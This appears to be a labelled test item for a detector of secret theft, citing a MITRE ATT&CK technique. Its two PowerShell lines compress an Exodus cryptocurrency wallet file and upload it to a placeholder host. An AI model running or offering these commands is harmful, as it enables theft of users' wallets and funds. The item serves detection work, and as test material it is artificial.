# expect: secrets-sent-away | source: MITRE ATT&CK T1560.001
Compress-Archive "$env:APPDATA\Exodus\exodus.wallet" "$env:TEMP\w.zip"
[Net.WebClient]::new().UploadFile('http://files.example.invalid/in', "$env:TEMP\w.zip")
